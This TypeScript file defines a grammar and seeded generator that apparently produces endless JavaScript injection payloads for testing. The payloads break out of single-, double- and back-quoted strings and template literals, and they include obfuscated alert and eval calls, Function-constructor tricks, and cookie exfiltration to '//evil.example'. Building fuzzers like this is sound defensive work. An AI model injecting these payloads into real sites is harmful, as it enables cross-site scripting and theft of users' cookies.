import { createExpander, type Grammar } from './expand.ts';

/** Code that calls or assigns, as attackers write it. */
const code: Grammar = {
  digits: ['1', '0', '23', '1337'],
  string: ['"x"', "'x'", '`x`', "'//evil.example'", '"\\x61lert(1)"', "'a\\'b'", '"a"+"b"'],
  value: [
    '{digits}',
    '{digits}',
    '{string}',
    'document.cookie',
    'document.domain',
    'name',
    'location.hash.slice(1)',
    '/x/.source',
    '[]',
    '{digits}+{digits}',
    '',
  ],
  path: [
    ...[
      'alert',
      'alert',
      'alert',
      'confirm',
      'prompt',
      'print',
      'eval',
      'fetch',
      'setTimeout',
      'top.alert',
      'window.alert',
      'self.alert',
      'document.write',
    ],
    ...[
      'globalThis.alert',
      'parent.frames[0].alert',
      'al\\u0065rt',
      '\\u0061lert',
      'navigator.sendBeacon',
      'console.log',
      '$',
      'jQuery.globalEval',
      'Function',
    ],
    ...[
      'window["alert"]',
      "self['al'+'ert']",
      'top[/al/.source+/ert/.source]',
      'this["alert"]',
      '(alert)',
      '(0,alert)',
      '(1,window.eval)',
      '[].constructor.constructor',
    ],
    ...[
      '[]["filter"]["constructor"]',
      '""["constructor"]["constructor"]',
      'frames[0]?.alert',
      'window?.alert',
      '(x=>alert)',
      'Reflect.apply',
      'import',
      'atob.constructor',
    ],
  ],
  call: [
    ...[
      '{path}({value})',
      '{path}({value})',
      '{path}({value})',
      '{path}({value})',
      '{path}`{digits}`',
      '{path}?.({value})',
      '{path} ({value})',
      '{path}.call(null,{value})',
    ],
    ...[
      '{path}.apply(null,[{value}])',
      'new {path}({value})',
      '[{value}].map({path})',
      '[{digits}].find({path})',
      '{path}({value})({value})',
      '{path}({value})``',
      '{path}({call})',
      'Reflect.apply({path},null,[{value}])',
    ],
    ...[
      '(()=>{path}({value}))()',
      '(function(){{path}({value})})()',
      '[].map.call(x,{path})',
      'import({string})',
      'await {path}({value})',
      'void {path}({value})',
      '!{path}({value})',
      'typeof {path}({value})',
      '({call})',
    ],
  ],
  assignment: [
    'location={string}',
    'location.href={string}',
    'document.location={string}+document.cookie',
    'onerror={path}',
    'window.name={string}',
    'document.body.innerHTML={string}',
    'document["cookie"]={string}',
    'x={call}',
    'self.onload={path}',
  ],
  statement: [
    ...[
      '{call}',
      '{call}',
      '{call}',
      '{assignment}',
      '{assignment}',
      '{call};{call}',
      'var x={call}',
      'let y={digits};{call}',
      'if({digits}){call}',
      'if({digits}){{call}}',
    ],
    ...[
      'for(;;){{call};break}',
      'while({digits}){call}',
      'try{{call}}catch(e){}',
      'onerror={path};throw {digits}',
      'x=>{call};{call}',
      '{{call}}',
      '{digits}?{call}:0',
      'debugger;{call}',
      'delete {call}',
    ],
  ],
  join: [
    '-',
    '-',
    '+',
    '*',
    '/',
    '%',
    '|',
    '&',
    '^',
    '||',
    '&&',
    '??',
    ',',
    '<',
    '>',
    '==',
    '===',
    '!=',
    '<<',
    ' - ',
    ' + ',
    ' in ',
    ' instanceof ',
    '||\n',
    '-/**/',
  ],
  next: [';', ';', ';', '\n', ';\n', '; ', ';;'],
  comment: ['//', '//', '//', '// x', '/*', '<!--'],
};

/** The quotes of JavaScript's texts, by the names of the places. */
const quotes = { 'single quotes': "'", 'double quotes': '"', 'back quotes': '`' } as const;

const behind = (quote: string): readonly string[] => [
  ...[
    `{word}${quote}{join}{call}{join}${quote}`,
    `{word}${quote}{join}{call}{join}${quote}`,
    `{word}${quote}{join}{call}{comment}`,
    `{word}${quote}{next}{statement}{comment}`,
  ],
  ...[
    `{word}${quote}{next}{statement}{comment}`,
    `{word}${quote}{next}{statement};${quote}`,
    `{word}${quote}{next}{statement};x=${quote}`,
    `{word}${quote});{statement}{comment}`,
    `{word}${quote});{statement};(${quote}`,
  ],
  ...[
    `{word}${quote}]);{statement}{comment}`,
    `{word}${quote}}};{statement}{comment}`,
    `{word}${quote}});{statement};({a:${quote}`,
    `{word}${quote}?{call}:${quote}`,
    `{word}${quote}.concat({call})+${quote}`,
    `\\${quote}{next}{statement}{comment}`,
  ],
  // A text can be neither called nor has it such an index; what is in the brackets is worked out first.
  ...[`{word}${quote}({call}){join}${quote}`, `{word}${quote} [{call}]{comment}`, `{word}${quote}\n({call}){comment}`],
];

const places: Grammar = {
  ...Object.fromEntries(Object.entries(quotes).map(([name, quote]) => [`a text in ${name}`, behind(quote)])),
  'a template': [
    '{open}{call}}',
    '{word}{open}{call}}',
    '{open}{assignment}}',
    '{open}{call}}{word}',
    '{open} {call} }',
  ],
};

const grammar: Grammar = { ...code, ...places, word: ['', '', 'x', 'a b', '1', 'test '], open: ['$\u007b'] };

export type ScriptAttack = { readonly place: string; readonly text: string };
export const scriptPlaces: readonly string[] = Object.keys(places);

/** Attacks without an end on texts of JavaScript, for each of its quotes in turn; the same for the same seed. */
export function* scriptAttacks(seed: number): Generator<ScriptAttack, never> {
  const expander = createExpander(seed);
  for (;;) for (const place of scriptPlaces) yield { place, text: expander.expand(grammar, place) };
}
